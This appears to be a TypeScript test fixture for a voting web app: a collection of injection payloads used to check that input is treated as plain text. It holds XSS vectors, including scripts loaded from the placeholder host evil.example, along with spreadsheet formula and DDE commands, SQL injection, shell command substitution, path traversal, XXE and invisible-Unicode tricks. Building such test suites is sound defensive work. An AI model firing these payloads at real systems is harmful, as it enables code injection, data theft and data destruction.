/**
 * Texts that do something wherever a program takes them for more than text: they set `ran`, open a dialog, ask `evil.example`, or become
 * elements. `watchForScripts` and `assertHarmless` see any of that.
 */

/** Elements whose attributes run. */
const HANDLERS = [
  ...[
    "img src=x onerror",
    "img src onerror",
    "image src=x onerror",
    "svg onload",
    "body onload",
    "video src=x onerror",
  ],
  ...["audio src=x onerror", "input autofocus onfocus", "select autofocus onfocus", "textarea autofocus onfocus"],
  ...["details open ontoggle", "marquee onstart", "object data=x onerror", "iframe onload", "embed src=x onload"],
  ...["p tabindex=1 onfocus", "a href=x onpointerover", "form onsubmit", "button autofocus onfocus", "style onload"],
  ...[
    "link rel=stylesheet href=x onerror",
    "script src=x onerror",
    "x contenteditable onfocus",
    "b oncopy",
    "meter onclick",
  ],
].map((start) => `<${start}=ran=1>`);

const ELEMENTS = [
  "<script>ran=1</script>",
  "<script>globalThis.ran=2</script>",
  "<SCRIPT>alert(1)</SCRIPT>",
  "<script src=https://evil.example/a.js></script>",
  '<script type="module">import "https://evil.example/b.js"</script>',
  "<scr<script>ipt>ran=3</scr</script>ipt>",
  "<script/x>ran=4</script>",
  "<img src=https://evil.example/pixel.png>",
  '<img srcset="https://evil.example/pixel2.png 1x">',
  "<iframe src=https://evil.example/frame></iframe>",
  '<iframe srcdoc="<script>parent.ran=5</script>"></iframe>',
  "<object data=https://evil.example/object></object>",
  "<embed src=https://evil.example/embed>",
  '<link rel="stylesheet" href="https://evil.example/style.css">',
  "<style>@import 'https://evil.example/import.css'</style>",
  "<style>body{display:none}</style>",
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<base href="https://evil.example/">',
  '<form action="https://evil.example/form"><input type=submit autofocus></form>',
  '<a href="https://evil.example/link" target=_blank>vote here</a>',
  '<input type="image" src="https://evil.example/input.png">',
  '<video poster="https://evil.example/poster.png"></video>',
  '<audio src="https://evil.example/sound.ogg" autoplay></audio>',
  '<template shadowrootmode="open"><script>ran=6</script></template>',
  '<div style="background:url(https://evil.example/bg.png)">x</div>',
  '<table background="https://evil.example/table.png"><tr><td>1</table>',
  "<portal src=https://evil.example/portal></portal>",
  "<dialog open>Your ballot was counted</dialog>",
  "<h1>Voting is over</h1>",
  "<b>bold</b>",
];

const BREAKOUTS = [
  '"><script>ran=7</script>',
  "'><script>ran=8</script>",
  '"><img src=x onerror=ran=9>',
  "'><svg onload=ran=10>",
  '" onmouseover="ran=11',
  "' onfocus='ran=12' autofocus='",
  '" autofocus onfocus=ran=13 x="',
  '"/><iframe src=javascript:ran=14>',
  "`><script>ran=15</script>",
  '\\"><script>ran=16</script>',
  '"});ran=17;({"a":"',
  "');ran=18;('",
  '";ran=19;//',
  "';ran=20;//",
  "\\';ran=21;//",
  "</script><script>ran=22</script>",
  "--><script>ran=23</script><!--",
  "]]><script>ran=24</script>",
  "*/ran=25;/*",
  "?><script>ran=26</script>",
];

const CLOSINGS = [
  ...["</title>", "</textarea>", "</style>", "</noscript>", "</template>", "</iframe>", "</select>", "</main>"],
  ...["</body></html>", "</svg>", "</xmp>", "</math>"],
].map((closing) => `${closing}<img src=x onerror=ran=27>`);

const ADDRESSES = [
  "javascript:ran=28",
  "javascript:alert(2)",
  "JaVaScRiPt:ran=29",
  "javascript://evil.example/%0aran=30",
  "javascript&colon;ran=31",
  "java&Tab;script:ran=32",
  "&#106;avascript:ran=33",
  "data:text/html,<script>ran=34</script>",
  "data:text/html;base64,PHNjcmlwdD5yYW49MTwvc2NyaXB0Pg==",
  "vbscript:msgbox(1)",
  "blob:https://evil.example/1",
  "//evil.example/protocol-relative",
  "https://evil.example/",
  "\\\\evil.example\\share",
  "file:///etc/passwd",
  "view-source:https://evil.example/",
  "#/settings",
  "../../../v1/about",
  "mailto:voter@evil.example",
  "[vote](javascript:ran=35)",
];

const DRAWINGS = [
  "<svg><script>ran=36</script></svg>",
  "<svg><script href=https://evil.example/c.js></script></svg>",
  "<svg><animate onbegin=ran=37 attributeName=x dur=1s>",
  "<svg><set onbegin=ran=38 attributeName=x>",
  "<svg><a href=javascript:ran=39><text y=20>x</text></a></svg>",
  "<svg><use href=https://evil.example/d.svg#x></use></svg>",
  "<svg><image href=https://evil.example/e.png></svg>",
  "<svg><foreignObject><iframe src=https://evil.example/f></foreignObject></svg>",
  "<svg><style>@import 'https://evil.example/g.css'</style></svg>",
  "<svg><title><img src=x onerror=ran=40></title></svg>",
  "<math><mi href=javascript:ran=41>x</mi></math>",
  '<math><maction actiontype="statusline" xlink:href="javascript:ran=42">x</maction></math>',
  "<math><mtext><table><mglyph><style><img src=x onerror=ran=43>",
  '<math><annotation-xml encoding="text/html"><img src=x onerror=ran=44></annotation-xml></math>',
  "<svg/onload=ran=45//",
];

const TEMPLATES = [
  "{{7*7}}",
  "{{constructor.constructor('ran=46')()}}",
  "{{title}} {{count}} {{name}}",
  "{{- title}}",
  "$t(vote:cast)",
  "$t(common.back, {{count}})",
  "${ran=47}",
  "${alert(3)}",
  "#{ran=48}",
  "<%= ran=49 %>",
  "{%raw%}{{ran}}{%endraw%}",
  "[[ran]]",
  "{0} {1} %s %d %o %c",
  "<0>cast</0><1/>",
  "@{ran}",
  "#set($x=1)$x",
  "*{ran}",
  "{ran}",
  "{{{ran}}}",
  "ng-app ng-csp {{$eval('ran=50')}}",
];

/** What spreadsheets compute. */
export const FORMULAS = [
  "=1+1",
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example/h","Open")',
  '=WEBSERVICE("https://evil.example/w")',
  '=IMPORTXML("https://evil.example/i","//a")',
  "+1+1",
  "+cmd|' /C calc'!A0",
  "-1+1",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1,1)",
  "@import 'https://evil.example/s.css'",
  "＝1+2",
  "＋1+2",
  "－1+2",
  "＠SUM(1,2)",
  'x",=1+3,"',
  "x;=1+4;y",
  '";=1+5;"',
  "'=1+6",
  '=DDE("cmd";"/C calc";"x")',
];

const NAMES = [
  ...["__proto__", "constructor", "prototype", "toString", "valueOf", "hasOwnProperty", "__defineGetter__"],
  ...['{"__proto__":{"ran":1}}', "constructor.prototype.ran=1", "undefined", "null", "NaN", "[object Object]", "true"],
  ...["document.cookie", "window.name", "default", "then"],
];

const ENCODINGS = [
  "%3Cscript%3Eran=51%3C/script%3E",
  "%253Cscript%253Eran=52%253C/script%253E",
  "%E0%A4%A",
  "%",
  "%00",
  "\\u003cscript\\u003eran=53\\u003c/script\\u003e",
  "\\x3cscript\\x3eran=54\\x3c/script\\x3e",
  "&lt;script&gt;ran=55&lt;/script&gt;",
  "&#60;script&#62;ran=56&#60;/script&#62;",
  "&#x3c;img src=x onerror=ran=57&#x3e;",
  "+ADw-script+AD4-ran=58+ADw-/script+AD4-",
  "＜script＞ran=59＜/script＞",
  "‹script›ran=60‹/script›",
  "<img src=x onerror=&#114;an=61>",
  "<ıframe src=javascript:ran=62>",
];

const COMMANDS = [
  "'; DROP TABLE elections; --",
  "' OR '1'='1",
  "$(touch ran)",
  "`touch ran`",
  "; touch ran",
  "| touch ran",
  "../../../../etc/passwd",
  "..\\..\\windows\\win.ini",
  "CON",
  "a/b\\c:d*e?f",
  'name.json" ; filename="evil.html',
  "<!--#exec cmd='touch ran'-->",
  '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
];

/** From right to left, with marks, wide, or many at once; all of it visible. */
const SCRIPTS = [
  "مرحبا 123 (1)",
  "שלום 456 [2]",
  "Library אבג 10 %",
  "אבג, 7:3",
  "Z̃̂͑a̴l̵g̶o",
  "🗳️✅",
  "ﷺﷺﷺ",
  "𝕍𝕠𝕥𝕖 𝕙𝕖𝕣𝕖",
  "𠮷野家",
];

export const PAYLOADS: readonly string[] = [
  ...[...HANDLERS, ...ELEMENTS, ...BREAKOUTS, ...CLOSINGS, ...ADDRESSES, ...DRAWINGS, ...TEMPLATES, ...FORMULAS],
  ...[...NAMES, ...ENCODINGS, ...COMMANDS, ...SCRIPTS],
].map((payload) => payload.normalize("NFC"));

/** What cannot be seen, and what changes the order of what can: forms refuse it, other people's programs may not. */
export const UNSEEN: readonly string[] = [
  "abc\u202Efed",
  "\u202Dabc\u202C",
  "\u2066abc\u2069",
  "\u2067abc",
  "Li\u200Bbrary",
  "Li\u200Cbrary",
  "Li\u200Dbrary",
  "\u200E\u200FLibrary",
  "Li\u2060brary",
  "\uFEFFLibrary",
  "Li\u00ADbrary",
  "Library\u0000<b>",
  "Library\u0007\u001B[31mred",
  "Library\u0085next",
  "Library\u2028ran=1",
  "Library\u2029ran=1",
  "Li\u{E0062}brary",
  "Li\u034Fbrary",
  "\u3164",
  "Library\u115F",
  "Library\uFFA0",
  "Library\u180E",
];

/** Payloads one after the other in as few texts as can be, none longer than that. */
export function packed(payloads: readonly string[], maxLength: number): string[] {
  const texts: string[] = [];
  for (const payload of payloads) {
    const longer = texts.length === 0 ? payload : `${texts.at(-1)!} ${payload}`;
    if (Buffer.byteLength(longer) > maxLength || texts.length === 0) texts.push(payload);
    else texts[texts.length - 1] = longer;
  }
  return texts;
}
